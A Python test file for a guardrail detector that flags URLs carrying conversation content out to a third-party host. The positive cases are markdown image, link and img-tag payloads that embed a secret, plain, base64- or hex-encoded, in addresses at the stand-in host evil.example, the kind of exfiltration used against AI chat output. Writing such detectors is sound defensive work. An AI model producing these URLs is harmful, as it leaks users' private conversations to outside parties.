"""Addresses that carry the conversation away are told from addresses."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.guardrails.detectors.exfiltration import Conversation, find_exfiltration

SAID = Conversation(
    ["The merger with Acme closes on Friday.", "Mail kim@example.org; docs: https://docs.example.com/a?page=two"]
)
SECRET = "the merger with Acme"
ENCODED = base64.urlsafe_b64encode(SECRET.encode()).decode()


@pytest.mark.parametrize(
    "text",
    [
        f"![chart](https://evil.example/i.png?d={quote(SECRET)})",
        f"![chart](https://evil.example/i.png?d={ENCODED})",
        f"[report](https://evil.example/{ENCODED})",
        f"see https://evil.example/?q={SECRET.encode().hex()}",
        f'<img width="1" src="https://evil.example/{quote(SECRET)}.png">',
        f"![][1]\n\n[1]: //evil.example/?x={quote(SECRET)}",
        "https://evil.example/hit?who=kim@example.org",
        "![x](https://evil.example/?n=nobody+said+this+but+it+is+a+whole+sentence)",
    ],
)
def test_find_exfiltration__conversation_in_the_address__found(text: str) -> None:
    (found,) = find_exfiltration(text, SAID)
    assert text[found.start : found.end].startswith(("https://evil.example", "//evil.example"))


@pytest.mark.parametrize(
    "text",
    [
        "https://docs.example.com/a?page=two",
        "[docs](https://docs.example.org/guide/getting-started)",
        "https://search.example/?q=acme+merger",
        "![logo](https://cdn.example.com/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b/logo.png?width=1200)",
        "https://shop.example/item/0123456789",
        "no address // at all",
    ],
)
def test_find_exfiltration__plain_address__passes(text: str) -> None:
    assert find_exfiltration(text, SAID) == []


@given(st.text(), st.text())
def test_find_exfiltration__any_text__spans_are_inside(text: str, said: str) -> None:
    whole = f"![a](https://e.example/?q={text}) //{text}"
    assert all(0 <= url.start < url.end <= len(whole) for url in find_exfiltration(whole, Conversation([said])))
